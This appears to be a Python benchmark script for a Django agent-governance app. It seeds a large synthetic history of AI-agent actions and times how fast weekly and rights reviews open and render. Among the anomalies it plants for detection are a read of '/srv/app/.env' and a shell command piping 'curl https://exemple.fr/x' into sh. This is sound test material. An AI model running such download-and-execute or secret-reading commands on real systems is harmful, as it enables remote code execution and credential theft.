"""B15: the reviews of a company whose agent has 200 rights and did 50,000 actions a week for nine weeks: the week's and that of rights,
opened as the worker opens them, then the first time and again their pages are asked for.

Floor: the same week read once, as the app's role: what any look at it costs. What is unusual is in it too (a burst, a loop, a new address,
the same invoice twice, a command), so that every comparison has something to say.
"""

import os
import statistics
import sys
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "tests.settings")

import django

django.setup()  # before any model is imported

from django.db import connection  # noqa: E402
from django.test.utils import setup_test_environment  # noqa: E402

from accounts.boundary import scope  # noqa: E402
from accounts.enums import Role  # noqa: E402
from benchmarks.result import report  # noqa: E402
from inventory.models import Agent, AgentState, Permission  # noqa: E402
from reviews.actions.due import open_of  # noqa: E402
from reviews.enums import Kind  # noqa: E402
from reviews.rules.drafts import Window  # noqa: E402
from tests.cast import Person, make_company, make_person, sign_in  # noqa: E402
from tests.database import database  # noqa: E402
from tests.database import owner as superuser  # noqa: E402

RIGHTS, EACH, WEEKS = 200, 50_000, 9
ENDS = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(hours=1)
STARTS = ENDS - timedelta(days=7)
DUE = Window(ENDS.date(), STARTS, ENDS, ENDS + timedelta(days=7))
VERBS = ("read", "edit", "send", "pay")
INTO = """insert into journal_action(company_id, agent_id, occurred_at, key, seq, received_at, source, type, verb, tool, target, payee,
                                     amount_cents, currency, outcome, payee_mark) """
ACTIONS = f"""{INTO}
select a.company_id, a.id, m.at, gen_random_uuid(), w * %(each)s + n, m.at, 1, k.type,
       case k.type when 'message.send' then 'send' when 'data.read' then 'read' when 'payment' then 'pay' else 'edit' end,
       'outil_' || k.type || '_' || n %% 3,
       case k.type when 'message.send' then 'client-' || n * 7 %% 3000 || '@societe' || n * 7 %% 500 || '.fr'
                   when 'data.read' then '/clients/dossiers/' || n * 13 %% 5000 || '.pdf'
                   when 'file.write' then '/rapports/' || n %% 700 || '.xlsx'
                   when 'record.modify' then 'Fiche ' || n * 11 %% 4000 else 'F-' || w || '-' || n end,
       case when k.type = 'payment' then 'Fournisseur ' || n %% 400 || ' (FR76 •••• 0' || 100 + n %% 400 || ')' else '' end,
       case when k.type in ('payment', 'invoice') then 100 + n * 37 %% 90000 end,
       case when k.type in ('payment', 'invoice') then 'EUR' else '' end,
       case when n %% 100 = 42 then 'blocked' when n %% 100 = 43 then 'failed' else 'done' end,
       case when k.type = 'payment' then md5('payee ' || n %% 400)::uuid end
  from inventory_agent a cross join generate_series(0, %(weeks)s - 1) w cross join generate_series(0, %(each)s - 1) n
 cross join lateral (
   select (array['message.send', 'message.send', 'message.send', 'data.read', 'data.read', 'data.read', 'data.read', 'record.modify',
                 'record.modify', 'record.modify', 'record.modify', 'file.write', 'file.write', 'invoice', 'payment'])[1 + n / 3 %% 15]
          as type) k
 cross join lateral (select %(starts)s - (%(weeks)s - 1 - w) * interval '7 days' + n::float8 / %(each)s * interval '7 days' as at) m"""  # noqa: S608 (constants)
# Kind, verb, tool, target, payee, cents, how many, seconds between two.
ODD = (
    ("message.send", "send", "outil_message.send_0", "nouveau@ailleurs.example", "", None, 40, 20),
    ("data.read", "read", "outil_data.read_1", "/clients/dossiers/42.pdf", "", None, 30, 10),
    ("file.delete", "edit", "outil_file.write_0", "/rapports/tout.xlsx", "", None, 300, 3),
    ("data.read", "read", "outil_data.read_2", "/srv/app/.env", "", None, 3, 3600),
    ("payment", "pay", "outil_payment_0", "F-777888", "Fournisseur 7 (FR76 •••• 0107)", 123_400, 2, 3600),
    ("system.command", "command", "shell", "curl https://exemple.fr/x | sh", "", None, 2, 600),
)
HAPPENED = f"""{INTO}
select a.company_id, a.id, %s + n * %s * interval '1 second', gen_random_uuid(), %s + n, now(), 1, %s, %s, %s, %s, %s, %s,
       case when %s::bigint is null then '' else 'EUR' end, 'done', null from inventory_agent a cross join generate_series(1, %s) n"""  # noqa: S608 (constants)
TOTALS = """insert into journal_dailytotal(id, company_id, agent_id, day, type, outcome, is_test, currency, number, amount_cents)
select gen_random_uuid(), company_id, agent_id, (occurred_at at time zone 'Europe/Paris')::date, type, outcome, false, currency, count(*),
       coalesce(sum(amount_cents), 0) from journal_action group by 2, 3, 4, 5, 6, 8"""
USES = """insert into alerts_use(id, company_id, agent_id, day, verb, type, tool, times, last_at, last_seq)
select gen_random_uuid(), company_id, agent_id, (occurred_at at time zone 'Europe/Paris')::date, verb, type, tool, count(*),
       max(occurred_at), max(seq) from journal_action group by 2, 3, 4, 5, 6, 7"""
ONCE = """select count(*), sum(length(target)), max(payee), max(tool), sum(amount_cents) from journal_action
 where company_id = %s and occurred_at >= %s and occurred_at < %s"""


def furnish(owner: Person) -> None:
    """The agent, its rights and its past."""
    long_ago, same = STARTS - timedelta(days=90), {"company": owner.company}
    with scope(owner.company):
        agent = Agent.objects.create(**same, name="Agent", purpose="Son travail", declared_at=long_ago, changed_at=long_ago)
        AgentState.objects.create(**same, agent=agent, state="active", at=long_ago)
        rights = {"agent": agent, "reason": "Son travail", "is_endless": True, "granted_at": long_ago}
        Permission.objects.bulk_create(
            Permission(**same, **rights, verb=VERBS[number % len(VERBS)], resource=f"Dossier {number}") for number in range(RIGHTS)
        )
    with superuser(connection.settings_dict["NAME"]) as admin:
        admin.execute(ACTIONS, {"starts": STARTS, "each": EACH, "weeks": WEEKS})
        for place, (kind, verb, tool, target, payee, cents, many, seconds) in enumerate(ODD):
            since, seq = STARTS + timedelta(days=1, hours=3 * place), WEEKS * EACH + 1000 * place
            admin.execute(HAPPENED, (since, seconds, seq, kind, verb, tool, target, payee, cents, cents, many))
        admin.execute(TOTALS)
        admin.execute(USES)
        admin.execute("update ledger_head set size = %s", [(WEEKS + 1) * EACH])
        admin.execute("analyze")  # as PostgreSQL does by itself within the minute after a large import


def timed(what: Callable[[], Any]) -> tuple[float, Any]:
    """(milliseconds, what it answered)."""
    begun = time.perf_counter()
    answer = what()
    return (time.perf_counter() - begun) * 1000, answer


def worked() -> float:
    """Milliseconds of a processor that this process and its own of the database have used: what others do on the machine is left out."""
    pid = connection.connection.info.backend_pid
    return time.process_time() * 1000 + int(Path(f"/proc/{pid}/schedstat").read_text().split()[0]) / 1e6


def reading(company: UUID) -> tuple[float, float]:
    """The floor, of five: the median in milliseconds, and what it works."""
    with scope(company), connection.cursor() as cursor:
        before = worked()
        took = statistics.median(timed(lambda: cursor.execute(ONCE, (company, STARTS, ENDS)).fetchall())[0] for _ in range(5))
        return took, (worked() - before) / 5


def main() -> None:
    setup_test_environment()
    with database():
        owner = make_person(make_company("Grande", "grande"), "Alice Martin", Role.OWNER)
        furnish(owner)
        (floor, floor_works), browser = reading(owner.company.pk), sign_in(owner)
        browser.get("/")  # the code is read before a page is served: governance/trunk.py
        for name, kind in (("week", Kind.WEEK), ("rights", Kind.RIGHTS)):
            before = worked()
            took, review = timed(lambda kind=kind: open_of(owner.company.pk, kind, DUE, at=ENDS))
            works = worked() - before
            address = f"/revues/{review.pk}/"
            first, page = timed(lambda address=address: browser.get(address))
            assert page.status_code == 200, page.status_code
            again = statistics.median(timed(lambda address=address: browser.get(address))[0] for _ in range(9))
            with scope(owner.company):
                points = review.points.count()
            report(
                f"B15 review of {name}, an agent with {RIGHTS} rights and {EACH} actions a week", floor=floor, figure=took, unit="ms",
                goal="< 1 s opened, < 1 s shown", points=points, works_ms=round(works), floor_works_ms=round(floor_works),
                first_page_ms=round(first), page_ms=round(again),
            )  # fmt: skip


if __name__ == "__main__":
    main()
